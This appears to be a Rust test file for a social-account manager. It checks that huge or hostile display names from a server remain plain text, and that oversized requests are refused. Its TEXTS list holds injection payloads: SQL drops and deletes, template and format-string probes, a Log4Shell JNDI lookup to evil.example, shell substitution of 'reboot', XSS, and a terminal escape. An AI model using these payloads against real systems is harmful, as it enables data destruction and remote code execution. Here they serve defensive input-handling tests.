//! How much a stranger's server or a page says is not how much a person sees or the store keeps, and
//! whatever it says stays text.

use domain::{ClientNameProblem, HostProblem, LONGEST_NAME, Secret};
use journeys::stage::{Stage, TestResult, network_named};
use protocol::{AppField, AppRequest, ClientRequest, Failure, HostRequest, Request, SignInRequest};

use crate::people::{ALICE, INSTANCE, alice, green};

#[tokio::test]
async fn a_name_of_a_megabyte_is_a_name_in_the_list_and_stays_one() -> TestResult {
    let mut stage = Stage::set().await?;
    let long = format!("\"display_name\":\"{}", "n".repeat(900_000));
    stage
        .line
        .reword("/verify_credentials", "\"display_name\":\"", &long);
    stage.add_account(&mut alice()).await?;
    for _ in 0..2 {
        let seen = stage.snapshot().await?;
        let names = seen.locations.iter().map(|location| location.name.as_ref());
        let letters: Vec<_> = names
            .map(|name| name.map(|name| name.chars().count()))
            .collect();
        assert_eq!(letters, [Some(LONGEST_NAME)]);
        stage.look().await?;
    }
    Ok(())
}

/// What other programs would run, expand or draw.
const TEXTS: [&str; 9] = [
    "'; DROP TABLE locations; --",
    "\" OR \"\"=\"",
    "x'); DELETE FROM grants WHERE (1=1",
    "{{7*7}} <%= 7*7 %> #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "%s%n%x %2527",
    "$(reboot) `reboot` | reboot",
    "<img src=x onerror=alert(1)>",
    "\u{1b}]0;owned\u{7}",
];

#[tokio::test]
async fn what_other_programs_would_run_is_a_name_here() -> TestResult {
    let mut stage = Stage::set().await?;
    stage.add_account(&mut alice()).await?;
    let id = stage.location(ALICE).await?.id;
    for text in TEXTS {
        let name = serde_json::json!(text).to_string();
        stage.line.plain();
        stage.line.reword(
            "/verify_credentials",
            "\"display_name\":",
            &format!("\"display_name\":{name},\"was\":"),
        );
        stage.look().await?;
        // What a person types and cannot see is refused.
        if !text.contains(char::is_control) {
            let name = text.to_owned();
            stage.ask(ClientRequest::AddClient { name }).await?;
        }
        let seen = stage.snapshot().await?;
        let [one] = seen.locations.as_slice() else {
            panic!("one location is left after {text}");
        };
        assert_eq!(one.name.as_deref(), Some(text));
        assert!(green(&one.health), "{text}");

        // What the store kept of it.
        stage = stage.restart().await?;
        let kept = stage.snapshot().await?.locations;
        let kept: Vec<_> = kept.iter().map(|one| (&one.id, &one.name)).collect();
        assert_eq!(kept, [(&id, &Some(text.to_owned()))]);
    }
    assert!(stage.snapshot().await?.clients.len() >= TEXTS.len() - 1);
    Ok(())
}

#[tokio::test]
async fn a_request_of_ten_megabytes_is_refused_by_what_is_wrong_with_it() -> TestResult {
    let mut stage = Stage::set().await?;
    let card = stage.begin_adding("mastodon", Some(INSTANCE)).await?;
    let long = || "x".repeat(10_000_000);
    let facebook = || network_named("facebook");
    for (request, wanted) in [
        (
            Request::from(SignInRequest::AddLocation {
                network: network_named("mastodon"),
                host: Some(long() + ".example"),
                client: None,
            }),
            Failure::from(HostProblem::TooLong),
        ),
        (
            Request::from(SignInRequest::PasteAddress {
                attempt: card.attempt,
                address: long(),
            }),
            Failure::BadAddress,
        ),
        (
            Request::from(ClientRequest::AddClient { name: long() }),
            Failure::BadClientName {
                problem: ClientNameProblem::TooLong,
            },
        ),
        (
            Request::from(AppRequest::SaveApp {
                network: facebook(),
                client_id: long(),
                client_secret: Secret::new("s".repeat(32)),
            }),
            Failure::BadApp {
                field: AppField::ClientId,
            },
        ),
        (
            Request::from(AppRequest::SaveApp {
                network: facebook(),
                client_id: "1".to_owned(),
                client_secret: Secret::new(long()),
            }),
            Failure::BadApp {
                field: AppField::ClientSecret,
            },
        ),
        (
            Request::from(SignInRequest::AddToken {
                network: facebook(),
                host: None,
                client: None,
                token: Secret::new(long()),
            }),
            Failure::BadToken,
        ),
        // Of files and guides the engine knows nothing.
        (
            Request::from(HostRequest::ShowInFolder { path: long() }),
            Failure::Gone,
        ),
        (
            Request::from(HostRequest::OpenGuidePage { address: long() }),
            Failure::Gone,
        ),
    ] {
        assert_eq!(stage.refusal(request).await?, wanted);
    }
    let seen = stage.snapshot().await?;
    assert!(seen.clients.is_empty() && seen.locations.is_empty());
    Ok(())
}
